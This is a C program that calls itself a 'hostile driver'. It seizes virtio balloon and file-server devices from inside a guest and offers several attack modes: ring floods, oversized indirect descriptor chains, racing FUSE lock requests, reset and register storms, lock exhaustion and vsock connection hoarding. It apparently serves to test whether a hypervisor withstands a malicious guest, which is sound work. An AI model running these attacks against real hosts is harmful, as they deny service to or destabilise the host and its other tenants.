/* SPDX-License-Identifier: MIT */
/*
 * A hostile driver, for root of a guest: it takes a virtio device from the kernel and works its
 * rings from this process, without a kernel module. The device's registers are its BAR 0, by
 * sysfs; the rings are in locked pages, whose addresses /proc/self/pagemap has.
 *
 *   hostile balloon-flood     one CPU publishes buffers as fast as they are served, another rings
 *   hostile balloon-chain     each buffer is 4 GiB of page numbers
 *   hostile balloon-report    each report names the same memory 63 times, which another CPU touches
 *   hostile fs-reads [MAP]    the ring of the file server full of the largest reads of /MAP/big,
 *                             which is /map0/big unless it is given
 *   hostile lock-storm        the ring full of one lock request of /map0/big, whose owner, type and
 *                             range another CPU changes all the time
 *   hostile fs-read-on MAP    reads of /MAP/big one after the other; says when one is refused
 *   hostile reset-storm       two CPUs reset the file server and ring its doorbell
 *   hostile register-storm    two CPUs hammer the file server's registers
 *   hostile lock-ranges FILE  read locks on single bytes until one is refused
 *   hostile strangers         holds as many connections to the host's ports as it gets, and asks
 *                             for more; for a user who is not root
 *
 * Each says "attacking" when it has begun, and does not end by itself but for lock-ranges.
 */
#include <endian.h>
#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <linux/fuse.h>
#include <linux/virtio_config.h>
#include <linux/virtio_pci.h>
#include <linux/virtio_ring.h>
#include <linux/vm_sockets.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

enum {
	/* As devices/virtio/pci.c lays BAR 0 out. */
	NOTIFY_OFF = 0x3000,
	NOTIFY_STRIDE = 4,
	BAR_SIZE = 0x8000,

	BALLOON = 0x1045,
	FILES = 0x105a,
	BALLOON_DEFLATE = 1,
	BALLOON_REPORTING = 4, /* as the specification counts */
	FILES_REQUESTS = 1, /* the first queue of requests; 0 is that of urgent ones */

	PAGE = 4096,
	HUGE_PAGE = 2 << 20,
	TABLE_MAX = 127,
};

struct ring {
	uint16_t size;
	volatile struct vring_desc *desc;
	volatile struct vring_avail *avail;
	volatile struct vring_used *used;
	volatile uint32_t *bell;
	uint16_t number;
};

static volatile uint8_t *bar;
static volatile struct virtio_pci_common_cfg *cfg;

static _Noreturn void die(const char *what)
{
	fprintf(stderr, "hostile: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void attacking(void)
{
	puts("attacking");
	fflush(stdout);
}

static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		die(path);
	close(fd);
}

static uint64_t physical(const volatile void *at)
{
	const uintptr_t addr = (uintptr_t)at;
	int fd = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);
	uint64_t entry;

	if (fd < 0 || pread(fd, &entry, 8, (off_t)(addr / PAGE * 8)) != 8 || !(entry >> 63))
		die("pagemap");
	close(fd);
	return (entry & ((1ull << 55) - 1)) * PAGE + addr % PAGE;
}

/* 2 MiB in one piece that stay where they are. */
static void *huge_page(void)
{
	void *p;

	write_file("/proc/sys/vm/nr_hugepages", "8");
	p = mmap(NULL, HUGE_PAGE, PROT_READ | PROT_WRITE,
		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB | MAP_LOCKED | MAP_POPULATE, -1, 0);
	if (p == MAP_FAILED)
		die("no huge page");
	return p;
}

/* The last device of that kind: of the two file servers, the one of the maps. */
static void take_device(unsigned int id)
{
	char path[200], unbind[200], *device = NULL;
	glob_t found;
	int fd;

	if (glob("/sys/bus/pci/devices/*", 0, NULL, &found) != 0)
		die("no PCI devices");
	for (size_t i = 0; i < found.gl_pathc; i++) {
		unsigned int is = 0;
		FILE *f;

		snprintf(path, sizeof(path), "%s/device", found.gl_pathv[i]);
		f = fopen(path, "re");
		if (f && fscanf(f, "%x", &is) == 1 && is == id)
			device = found.gl_pathv[i];
		if (f)
			fclose(f);
	}
	if (!device)
		die("no such device");
	snprintf(unbind, sizeof(unbind), "%s/driver/unbind", device);
	if (access(unbind, F_OK) == 0)
		write_file(unbind, strrchr(device, '/') + 1);
	snprintf(path, sizeof(path), "%s/enable", device);
	write_file(path, "1");
	snprintf(path, sizeof(path), "%s/resource0", device);
	fd = open(path, O_RDWR | O_CLOEXEC);
	bar = mmap(NULL, BAR_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (fd < 0 || bar == MAP_FAILED)
		die(path);
	close(fd);
	cfg = (volatile struct virtio_pci_common_cfg *)bar;
	globfree(&found);
}

static void begin_driver(void)
{
	cfg->device_status = 0;
	while (cfg->device_status != 0)
		continue;
	cfg->device_status = VIRTIO_CONFIG_S_ACKNOWLEDGE | VIRTIO_CONFIG_S_DRIVER;
	cfg->guest_feature_select = 0;
	cfg->guest_feature = 1u << VIRTIO_RING_F_INDIRECT_DESC;
	cfg->guest_feature_select = 1;
	cfg->guest_feature = 1; /* VIRTIO_F_VERSION_1 */
	cfg->device_status |= VIRTIO_CONFIG_S_FEATURES_OK;
}

/* A queue whose rings are at `memory`: 16 KiB of a huge page. */
static struct ring begin_queue(uint16_t number, void *memory)
{
	uint8_t *at = memory;
	struct ring r = {.number = number};

	memset(at, 0, 4 * PAGE);
	cfg->queue_select = number;
	r.size = cfg->queue_size;
	r.desc = (volatile struct vring_desc *)at;
	r.avail = (volatile struct vring_avail *)(at + 2 * PAGE);
	r.used = (volatile struct vring_used *)(at + 3 * PAGE);
	cfg->queue_desc_lo = (uint32_t)physical(r.desc);
	cfg->queue_desc_hi = (uint32_t)(physical(r.desc) >> 32);
	cfg->queue_avail_lo = (uint32_t)physical(r.avail);
	cfg->queue_avail_hi = (uint32_t)(physical(r.avail) >> 32);
	cfg->queue_used_lo = (uint32_t)physical(r.used);
	cfg->queue_used_hi = (uint32_t)(physical(r.used) >> 32);
	r.bell = (volatile uint32_t *)(bar + NOTIFY_OFF + cfg->queue_notify_off * NOTIFY_STRIDE);
	cfg->queue_enable = 1;
	for (uint16_t i = 0; i < r.size; i++)
		r.avail->ring[i] = i;
	return r;
}

static void begin_requests(void)
{
	cfg->device_status |= VIRTIO_CONFIG_S_DRIVER_OK;
}

/* Makes all buffers available again as soon as they are used, until the end of days. */
static void *publish(void *arg)
{
	struct ring *r = arg;

	for (;;) {
		r->avail->idx = (uint16_t)(r->used->idx + r->size);
		atomic_thread_fence(memory_order_seq_cst);
	}
	return NULL;
}

static void ring_for_ever(const struct ring *r)
{
	attacking();
	for (;;)
		*r->bell = r->number;
}

static void *in_thread(void *(*fn)(void *), void *arg)
{
	pthread_t thread;

	if (pthread_create(&thread, NULL, fn, arg) != 0)
		die("thread");
	return arg;
}

/* Any RAM does for page numbers: that of the kernel's own text, which is only read. */
static void balloon_flood(void)
{
	static struct ring r;

	take_device(BALLOON);
	begin_driver();
	r = begin_queue(BALLOON_DEFLATE, huge_page());
	for (uint16_t i = 0; i < r.size; i++) {
		r.desc[i].addr = 16 << 20;
		r.desc[i].len = 32 << 10;
	}
	begin_requests();
	in_thread(publish, &r);
	ring_for_ever(&r);
}

static bool needs_reset(void)
{
	return (cfg->device_status & VIRTIO_CONFIG_S_NEEDS_RESET) != 0;
}

/* As often as the device gives up on us. */
static void balloon_chain(void)
{
	static struct ring r;
	uint8_t *memory = huge_page();
	struct vring_desc *table = (struct vring_desc *)(memory + 8 * PAGE);

	take_device(BALLOON);
	for (unsigned int i = 0; i < TABLE_MAX; i++)
		table[i] = (struct vring_desc){
			.addr = 16 << 20,
			.len = 32 << 20,
			.flags = i + 1 < TABLE_MAX ? VRING_DESC_F_NEXT : 0,
			.next = (uint16_t)(i + 1),
		};
	attacking();
	for (;;) {
		begin_driver();
		r = begin_queue(BALLOON_DEFLATE, memory);
		for (uint16_t i = 0; i < r.size; i++) {
			r.desc[i].addr = physical(table);
			r.desc[i].len = TABLE_MAX * sizeof(*table);
			r.desc[i].flags = VRING_DESC_F_INDIRECT;
		}
		begin_requests();
		r.avail->idx = r.size;
		*r.bell = r.number;
		while (!needs_reset())
			r.avail->idx = (uint16_t)(r.used->idx + r.size);
	}
}

/* Touches a huge page again and again, so that there is something to give back. */
static void *touch(void *arg)
{
	volatile uint8_t *at = arg;

	for (;;)
		for (size_t off = 0; off < HUGE_PAGE; off += PAGE)
			at[off]++;
	return NULL;
}

/* The most memory a report may name, as often as the device takes it, and more of it. */
static void balloon_report(void)
{
	static struct ring r;
	uint8_t *memory = huge_page(), *victim = huge_page();
	struct vring_desc *table = (struct vring_desc *)(memory + 8 * PAGE);
	const unsigned int n = 63;

	take_device(BALLOON);
	for (unsigned int i = 0; i < n; i++)
		table[i] = (struct vring_desc){
			.addr = physical(victim),
			.len = HUGE_PAGE,
			.flags = VRING_DESC_F_WRITE | (i + 1 < n ? VRING_DESC_F_NEXT : 0),
			.next = (uint16_t)(i + 1),
		};
	begin_driver();
	r = begin_queue(BALLOON_REPORTING, memory);
	for (uint16_t i = 0; i < r.size; i++) {
		r.desc[i].addr = physical(table);
		r.desc[i].len = n * sizeof(*table);
		r.desc[i].flags = VRING_DESC_F_INDIRECT;
	}
	begin_requests();
	in_thread(touch, victim);
	in_thread(publish, &r);
	ring_for_ever(&r);
}

/* What is at a fixed place of the file server's huge page. */
struct fuse_page {
	uint8_t rings[4 * PAGE];
	struct vring_desc table[TABLE_MAX + 1];
	union {
		struct {
			struct fuse_in_header hdr;
			union {
				struct fuse_init_in init;
				struct fuse_open_in open;
				struct fuse_read_in read;
				struct fuse_lk_in lock;
				char name[32];
			};
		};
		uint8_t in[PAGE];
	};
	union {
		struct {
			struct fuse_out_header out;
			union {
				struct fuse_entry_out entry;
				struct fuse_open_out opened;
			};
		};
		uint8_t reply[PAGE];
	};
	uint8_t data[1 << 20];
};

static struct ring files;
static struct fuse_page *page;

static void set_desc(unsigned int i, const void *at, uint32_t len, uint16_t flags)
{
	files.desc[i].addr = physical(at);
	files.desc[i].len = len;
	files.desc[i].flags = flags;
	files.desc[i].next = (uint16_t)(i + 1);
}

/* One request and its reply; the error of the reply. */
static int ask(uint32_t opcode, uint64_t node, uint32_t arg_len)
{
	const uint16_t used = files.used->idx;

	page->hdr.opcode = opcode;
	page->hdr.nodeid = node;
	page->hdr.unique++;
	page->hdr.len = (uint32_t)sizeof(page->hdr) + arg_len;
	memset(page->reply, 0, sizeof(page->reply));
	set_desc(0, &page->hdr, page->hdr.len, VRING_DESC_F_NEXT);
	set_desc(1, &page->out, PAGE, VRING_DESC_F_WRITE);
	files.avail->ring[files.avail->idx % files.size] = 0;
	atomic_thread_fence(memory_order_seq_cst);
	files.avail->idx++;
	*files.bell = files.number;
	while (files.used->idx == used)
		atomic_thread_fence(memory_order_seq_cst);
	return page->out.error;
}

static uint64_t look_up(uint64_t parent, const char *name)
{
	snprintf(page->name, sizeof(page->name), "%s", name);
	errno = -ask(FUSE_LOOKUP, parent, (uint32_t)strlen(name) + 1);
	if (errno != 0)
		die(name);
	return page->entry.nodeid;
}

/* The map whose file is read; by the file server's name for it. */
static const char *export_name = "map0";

/* Opens big in that map; its number, with *fh. */
static uint64_t open_big(uint64_t *fh)
{
	uint64_t node;

	begin_driver();
	files = begin_queue(FILES_REQUESTS, page);
	begin_requests();
	memset(page->in, 0, sizeof(page->in));
	page->init = (struct fuse_init_in){.major = FUSE_KERNEL_VERSION,
					   .minor = FUSE_KERNEL_MINOR_VERSION};
	if (ask(FUSE_INIT, 0, sizeof(page->init)) != 0)
		die("FUSE_INIT");
	node = look_up(look_up(FUSE_ROOT_ID, export_name), "big");
	page->open = (struct fuse_open_in){.flags = O_RDONLY};
	errno = -ask(FUSE_OPEN, node, sizeof(page->open));
	if (errno != 0)
		die("FUSE_OPEN");
	*fh = page->opened.fh;
	return node;
}

/* Fills the ring with reads into n buffers of 1 MiB, until the device has enough. */
static void read_all(unsigned int n)
{
	struct fuse_read_in read_in = {.size = n > 1 ? 0x7ffff000 : sizeof(page->data)};

	page->hdr.nodeid = open_big(&read_in.fh);
	page->hdr.opcode = FUSE_READ;
	page->hdr.len = sizeof(page->hdr) + sizeof(read_in);
	page->read = read_in;
	page->table[0] = (struct vring_desc){
		.addr = physical(&page->hdr),
		.len = page->hdr.len,
		.flags = VRING_DESC_F_NEXT,
		.next = 1,
	};
	for (unsigned int i = 1; i <= n; i++)
		page->table[i] = (struct vring_desc){
			.addr = physical(page->data),
			.len = sizeof(page->data),
			.flags = (uint16_t)(VRING_DESC_F_WRITE | (i < n ? VRING_DESC_F_NEXT : 0)),
			.next = (uint16_t)(i + 1),
		};
	/* Where the reply's head goes is data, too: nobody looks at it. */
	for (uint16_t i = 0; i < files.size; i++) {
		set_desc(i, page->table, (n + 1) * (uint32_t)sizeof(page->table[0]),
			 VRING_DESC_F_INDIRECT);
		files.avail->ring[i] = i;
	}
	while (!needs_reset()) {
		files.avail->idx = (uint16_t)(files.used->idx + files.size);
		*files.bell = files.number;
	}
}

/* First more than the device takes, then as much as it takes. */
static void fs_reads(void)
{
	page = huge_page();
	take_device(FILES);
	attacking();
	read_all(TABLE_MAX);
	for (;;)
		read_all(1);
}

/* What the host reads of a request is another each time, also within one request. */
static void *stir(void *arg)
{
	volatile struct fuse_lk_in *lock = arg;

	for (uint32_t i = 1;; i = i * 1664525 + 1013904223) {
		lock->owner = (i >> 8) % 1500;
		lock->lk.type = (i >> 20) % 3 == 0   ? F_UNLCK
				: (i >> 20) % 3 == 1 ? F_RDLCK
						     : F_WRLCK;
		lock->lk.start = (i >> 12) % 4096;
		lock->lk.end = lock->lk.start + (i >> 28);
		page->hdr.opcode = i >> 31 ? FUSE_SETLK : FUSE_SETLKW;
	}
	return NULL;
}

static void lock_storm(void)
{
	uint64_t fh;

	page = huge_page();
	take_device(FILES);
	page->hdr.nodeid = open_big(&fh);
	page->hdr.opcode = FUSE_SETLKW;
	page->hdr.len = sizeof(page->hdr) + sizeof(page->lock);
	page->lock = (struct fuse_lk_in){.fh = fh};
	page->table[0] = (struct vring_desc){
		.addr = physical(&page->hdr),
		.len = page->hdr.len,
		.flags = VRING_DESC_F_NEXT,
		.next = 1,
	};
	page->table[1] = (struct vring_desc){
		.addr = physical(page->reply),
		.len = sizeof(page->reply),
		.flags = VRING_DESC_F_WRITE,
	};
	for (uint16_t i = 0; i < files.size; i++) {
		set_desc(i, page->table, 2 * (uint32_t)sizeof(page->table[0]),
			 VRING_DESC_F_INDIRECT);
		files.avail->ring[i] = i;
	}
	in_thread(stir, &page->lock);
	attacking();
	for (;;) {
		files.avail->idx = (uint16_t)(files.used->idx + files.size);
		*files.bell = files.number;
	}
}

static void fs_read_on(void)
{
	struct fuse_read_in read_in = {.size = 1024};
	uint64_t node;
	int error;

	page = huge_page();
	take_device(FILES);
	node = open_big(&read_in.fh);
	attacking();
	do {
		page->read = read_in;
		error = ask(FUSE_READ, node, sizeof(read_in));
	} while (error == 0);
	printf("refused: %s\n", strerror(-error));
}

static void *reset(void *arg)
{
	for (;;)
		cfg->device_status = 0;
	return arg;
}

static void reset_storm(void)
{
	uint8_t *memory = huge_page();

	take_device(FILES);
	in_thread(reset, NULL);
	attacking();
	for (;;) {
		struct ring r;

		cfg->device_status = VIRTIO_CONFIG_S_ACKNOWLEDGE | VIRTIO_CONFIG_S_DRIVER;
		r = begin_queue(FILES_REQUESTS, memory);
		begin_requests();
		*r.bell = r.number;
	}
}

static void *hammer(void *arg)
{
	for (;;) {
		cfg->queue_select = 1;
		(void)cfg->queue_size;
	}
	return arg;
}

static void register_storm(void)
{
	take_device(FILES);
	in_thread(hammer, NULL);
	attacking();
	(void)hammer(NULL);
}

static void lock_ranges(const char *path)
{
	struct flock lock = {.l_type = F_RDLCK, .l_whence = SEEK_SET, .l_len = 1};
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	unsigned long n = 0;

	if (fd < 0)
		die(path);
	attacking();
	while (n < 100000 && fcntl(fd, F_SETLK, &lock) == 0) {
		lock.l_start += 2;
		n++;
	}
	printf("%lu locks, then %s\n", n, n < 100000 ? strerror(errno) : "no refusal");
}

static void strangers(void)
{
	struct sockaddr_vm to = {.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST};
	unsigned int connected = 0;

	for (unsigned int i = 0;; i++) {
		int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);

		if (fd < 0)
			die("no vsock");
		to.svm_port = 1024 + i % 2;
		connected += connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0;
		/* What is connected stays so. */
		if (connected == 0)
			close(fd);
		if (i == 100) {
			printf("%u connected\n", connected);
			attacking();
		}
	}
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		void (*attack)(void);
	} attacks[] = {
		{"balloon-flood", balloon_flood},   {"balloon-chain", balloon_chain},
		{"balloon-report", balloon_report}, {"fs-reads", fs_reads},
		{"fs-read-on", fs_read_on},	    {"reset-storm", reset_storm},
		{"register-storm", register_storm}, {"lock-storm", lock_storm},
		{"strangers", strangers},
	};

	if (argc == 3 && strcmp(argv[1], "lock-ranges") == 0) {
		lock_ranges(argv[2]);
		return 0;
	}
	if (argc == 3)
		export_name = argv[2];
	for (size_t i = 0; argc >= 2 && i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (strcmp(argv[1], attacks[i].name) == 0) {
			attacks[i].attack();
			return 0;
		}
	fprintf(stderr, "hostile: no such attack\n");
	return 2;
}
